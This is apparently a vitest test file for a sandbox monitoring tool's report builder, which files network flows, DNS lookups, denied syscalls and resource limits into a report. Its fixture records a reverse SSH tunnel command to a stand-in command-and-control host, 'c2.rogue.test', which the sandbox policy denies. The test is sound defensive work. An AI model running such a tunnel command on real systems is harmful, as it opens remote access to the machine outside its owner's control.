import { readFileSync, writeFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { presetPolicy } from '../policy/index.js';
import { buildReport, reportJsonSchema, type ReportInput } from './index.js';

const schemaFile = new URL('../../schemas/report.schema.json', import.meta.url);

describe('report', () => {
  test('the published JSON Schema matches the zod schema (UPDATE_SCHEMAS=1 regenerates it)', () => {
    const current = JSON.stringify(reportJsonSchema(), null, 2) + '\n';
    if (process.env.UPDATE_SCHEMAS === '1') writeFileSync(schemaFile, current);
    expect(readFileSync(schemaFile, 'utf8')).toBe(current);
  });

  test('keeps the final byte counts of a flow and files every section from the events', () => {
    const base = { sandboxId: 's1', id: 'x', ts: 1 };
    const flow = {
      ...base,
      kind: 'net.flow' as const,
      flowId: 'f1',
      address: '198.18.0.3',
      port: 22,
      host: 'c2.rogue.test',
      protocol: 'ssh',
      decision: 'deny' as const,
      rule: 'default-deny',
      bytesOut: 0,
      bytesIn: 0,
      durationMs: 0,
    };
    const input: ReportInput = {
      sandboxId: 's1',
      command: ['ssh', '-R', '9:localhost:22', 'c2.rogue.test'],
      workspace: '/tmp/ws',
      policy: presetPolicy(),
      startedAt: new Date(0),
      endedAt: new Date(1500),
      exit: { code: 255, signal: null, timedOut: false, killedByPolicy: false, oomKilled: false },
      resources: { cgroup: 'v1', cpuMs: 3, peakMemoryBytes: 1024, peakPids: 2 },
      networkMode: 'cordon',
      events: [
        { ...flow, phase: 'open' },
        { ...flow, phase: 'close', durationMs: 4 },
        { ...base, kind: 'syscall', pid: 3, syscall: 'mount', denied: true },
        { ...base, kind: 'resource.limit', limit: 'pids', detail: 'pids.max reached' },
        {
          ...base,
          kind: 'net.dns',
          name: 'c2.rogue.test',
          qtype: 'A',
          answer: '198.18.0.3',
          decision: 'allow',
          tunnelScore: 0.1,
        },
      ],
      findings: [],
      coverage: { exec: { live: true, source: 'ebpf' } },
      verdict: 'clean',
    };
    const r = buildReport(input);
    expect(r.durationMs).toBe(1500);
    expect(r.network.flows).toHaveLength(1);
    expect(r.network.flows[0]).toMatchObject({
      host: 'c2.rogue.test',
      protocol: 'ssh',
      decision: 'deny',
      durationMs: 4,
    });
    expect(r.deniedSyscalls).toEqual([{ syscall: 'mount', pid: 3, ts: 1 }]);
    expect(r.limitEvents[0]?.limit).toBe('pids');
    expect(r.network.dns[0]?.name).toBe('c2.rogue.test');
    expect(r.policy.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
  });
});
